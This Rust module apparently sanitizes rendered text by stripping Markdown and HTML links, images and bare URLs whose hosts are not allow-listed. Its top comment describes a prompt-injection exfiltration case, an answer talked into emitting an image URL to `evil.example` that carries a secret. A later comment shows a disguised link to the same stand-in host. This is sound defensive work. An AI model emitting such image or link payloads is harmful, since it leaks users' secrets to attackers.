//! What a text does beyond being read once something shows it: links and pictures of Markdown and HTML.
//!
//! A picture is fetched as soon as it is shown, so an answer that was talked into `![](https://evil.example/?q=SECRET)` has
//! sent the secret before anybody has read it. Links do the same with a click. [`find`] takes the addresses out that lead to
//! hosts which nobody has allowed, and leaves the words.
//!
//! *Invariant (only what is named stays):* an address stays if it has no scheme and no host, or is `http` or `https` with a
//! host of the list, without a user name, an escape or a character that readers take differently. All others go.

mod element;
mod hosts;
#[cfg(test)]
mod tests;

use std::ops::Range;

pub use hosts::Hosts;

use self::element::element;
use crate::edit::Edit;

/// Longest address, tag or definition that is waited for; what is longer is taken out as far as it goes.
pub const LONGEST: usize = 4_096;
/// What stands where an address stood.
pub const REMOVED: &str = "(link removed)";

/// What was found.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Found {
    /// What goes, in order.
    pub edits: Vec<Edit>,
    /// Where something begins that could be an address and has not ended; nothing where the text is over.
    pub open: Option<usize>,
}

/// Addresses that lead where nobody has allowed: of links and pictures, definitions of links, addresses in angle brackets,
/// elements of HTML, and with `bare` those that stand in the text as they are. Where the text goes on (`is_over` is false),
/// what has begun and not ended is told, too.
pub fn find(text: &str, hosts: &Hosts, bare: bool, is_over: bool) -> Found {
    let mut found = Found::default();
    let (mut at, mut line) = (0, 0);
    let mut looks = Looks::at(text);
    while let Some(next) =
        text.get(at..).and_then(|rest| rest.find(['(', '<', '[', ':'])).map(|next| at + next)
    {
        line = text.get(at..next).and_then(|passed| passed.rfind('\n')).map_or(line, |end| at + end + 1);
        let byte = text.as_bytes().get(next).copied().unwrap_or_default();
        let seen = match byte {
            b'(' if !text.get(..next).is_some_and(|before| before.ends_with(']')) => Seen::Nothing,
            b':' if !bare => Seen::Nothing,
            _ if looks.are_over() => Seen::Goes(next..next + 1, format!("&#{byte};")),
            b'(' => link(text, next, hosts, &mut looks),
            b'<' => element(text, next, hosts, &mut looks),
            b'[' => definition(text, (line, next), hosts, &mut looks),
            _ => plain(text, next, hosts, &mut looks),
        };
        match seen {
            Seen::Nothing => at = next + 1,
            Seen::Allowed(end) => at = end.max(next + 1),
            Seen::Goes(range, replacement) => {
                at = range.end.max(next + 1);
                found.edits.push(Edit { range, replacement });
            }
            Seen::Open(start, range) => {
                if !is_over {
                    found.open = Some(start);
                    break;
                }
                // Some readers complete what has not ended.
                if let Some(range) = range {
                    at = range.end.max(next + 1);
                    found.edits.push(Edit { range, replacement: REMOVED.to_owned() });
                } else {
                    at = next + 1;
                }
            }
        }
    }
    if !is_over && found.open.is_none() {
        found.open = beginning(text, at);
    }
    found
}

/// How much may be looked at that is looked at more than once. Texts that were written for something stay far below it; of
/// others no bracket and no colon stays what it is from there on.
#[derive(Debug)]
struct Looks(usize);

impl Looks {
    /// Sixteen times the text, and a megabyte.
    fn at(text: &str) -> Looks {
        Looks(text.len().saturating_mul(16).saturating_add(1 << 20))
    }

    fn take(&mut self, bytes: usize) {
        self.0 = self.0.saturating_sub(bytes);
    }

    fn are_over(&self) -> bool {
        self.0 == 0
    }
}

enum Seen {
    /// It is no address.
    Nothing,
    /// It may stay; what comes next begins here.
    Allowed(usize),
    /// It goes.
    Goes(Range<usize>, String),
    /// It has begun there and not ended; what goes if nothing more comes.
    Open(usize, Option<Range<usize>>),
}

/// An end of a text that could be the beginning of something: `[`, `](`, `htt`.
fn beginning(text: &str, from: usize) -> Option<usize> {
    let rest = text.get(from..)?;
    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || b"]+.-".contains(byte);
    let tail = rest.bytes().rev().take(32).take_while(|byte| is_word(byte)).count();
    (tail > 0 && tail < 32).then(|| text.len() - tail)
}

/// `(address "title")` after `]`.
fn link(text: &str, open: usize, hosts: &Hosts, looks: &mut Looks) -> Seen {
    let start = open + 1;
    let Some((address, end)) = destination(text, start) else {
        let begun = text.get(start..).unwrap_or_default();
        let is_honest =
            begun.trim().is_empty() || hosts.allow(begun.split_whitespace().next().unwrap_or_default());
        return Seen::Open(open - 1, (!is_honest).then_some(open..text.len()));
    };
    // What follows is a title, or it is no link.
    let rest = text.get(end..).unwrap_or_default();
    let window = rest.get(..floor(rest, LONGEST)).unwrap_or_default();
    let close = window.find(')').map(|close| end + close + 1);
    looks.take(close.unwrap_or(end + window.len()) - open);
    let is_allowed = hosts.allow(text.get(address.clone()).unwrap_or_default());
    match close {
        // What stands in it is looked at as well: not every reader takes it for a link.
        Some(_) if is_allowed => Seen::Nothing,
        Some(close) => Seen::Goes(open..close, REMOVED.to_owned()),
        None if is_allowed && window.len() == rest.len() => Seen::Open(open - 1, None),
        None if is_allowed => Seen::Nothing,
        None if window.len() < rest.len() => Seen::Goes(open..end, REMOVED.to_owned()),
        None => Seen::Open(open - 1, Some(open..end)),
    }
}

/// The bytes of an address, and where it ends; nothing where it has not.
fn destination(text: &str, start: usize) -> Option<(Range<usize>, usize)> {
    let rest = text.get(start..)?;
    let start = start + (rest.len() - rest.trim_start().len());
    let rest = text.get(start..)?;
    if let Some(inner) = rest.strip_prefix('<') {
        let window = inner.get(..floor(inner, LONGEST)).unwrap_or_default();
        let end = window.find('>').or_else(|| (window.len() < inner.len()).then_some(window.len()))?;
        return Some((start + 1..start + 1 + end, (start + end + 2).min(text.len())));
    }
    let mut depth = 0_usize;
    for (place, character) in rest.char_indices() {
        match character {
            '(' => depth += 1,
            ')' if depth == 0 => return Some((start..start + place, start + place)),
            ')' => depth -= 1,
            white if white.is_whitespace() => return Some((start..start + place, start + place)),
            _ if place >= LONGEST => return Some((start..start + place, start + place)),
            _ => {}
        }
    }
    None
}

/// `[name]: address` at the beginning of a line.
fn definition(text: &str, (line, open): (usize, usize), hosts: &Hosts, looks: &mut Looks) -> Seen {
    let before = text.get(line..open).unwrap_or_default();
    let is_of_list = |character: char| {
        character.is_whitespace() || character.is_ascii_digit() || ">-*+.)".contains(character)
    };
    if !before.chars().all(is_of_list) {
        return Seen::Nothing;
    }
    let rest = text.get(open..).unwrap_or_default();
    let window = rest.get(..floor(rest, 1_024)).unwrap_or_default();
    let close = unescaped(window);
    looks.take(close.unwrap_or(window.len()));
    let Some(close) = close else {
        return if window.len() == rest.len() { Seen::Open(open, None) } else { Seen::Nothing };
    };
    let after = open + close + 1;
    match text.as_bytes().get(after) {
        Some(b':') => {}
        None => return Seen::Open(open, None),
        Some(_) => return Seen::Nothing,
    }
    let Some((address, end)) = destination(text, after + 1) else {
        let begun = text.get(after + 1..).unwrap_or_default();
        if hosts.allow(begun) {
            return Seen::Open(open, None);
        }
        let start = text.len() - begun.trim_start().len();
        return Seen::Open(open, Some(start..text.len()));
    };
    if hosts.allow(text.get(address.clone()).unwrap_or_default()) {
        return Seen::Nothing;
    }
    Seen::Goes(address.start..end.max(address.end), "#link-removed".to_owned())
}

/// Where the name of a definition ends: at a bracket that no backslash stands before.
fn unescaped(text: &str) -> Option<usize> {
    let mut is_escaped = false;
    text.char_indices().find_map(|(place, character)| {
        let ends = character == ']' && !is_escaped;
        is_escaped = character == '\\' && !is_escaped;
        ends.then_some(place)
    })
}

/// An address that stands as it is: `https://...`.
fn plain(text: &str, colon: usize, hosts: &Hosts, looks: &mut Looks) -> Seen {
    let before = text.get(..colon).unwrap_or_default();
    let scheme = before.bytes().rev().take_while(u8::is_ascii_alphanumeric).take(16).count();
    let start = colon - scheme;
    let rest = text.get(colon + 1..).unwrap_or_default();
    if scheme == 0 {
        return Seen::Nothing;
    }
    if !rest.starts_with("//") {
        return if "//".starts_with(rest) { Seen::Open(start, None) } else { Seen::Nothing };
    }
    let is_end = |character: char| character.is_whitespace() || matches!(character, '<' | '>' | '"' | '`');
    let window = rest.get(..floor(rest, LONGEST)).unwrap_or_default();
    let length = window.find(is_end);
    let end = colon + 1 + length.unwrap_or(window.len());
    looks.take(end - colon);
    let address = text.get(start..end).unwrap_or_default();
    let is_allowed = hosts.allow(address.trim_end_matches(['.', ',', ')', ']', ';']));
    match length {
        None if window.len() == rest.len() => Seen::Open(start, (!is_allowed).then_some(start..end)),
        // A link may begin within it: `[https://docs.example.com](https://evil.example)`.
        _ if is_allowed => Seen::Allowed(address.find(['(', '[', '<']).map_or(end, |inner| start + inner)),
        _ => Seen::Goes(start..end, REMOVED.to_owned()),
    }
}

fn floor(text: &str, at: usize) -> usize {
    let mut at = at.min(text.len());
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}
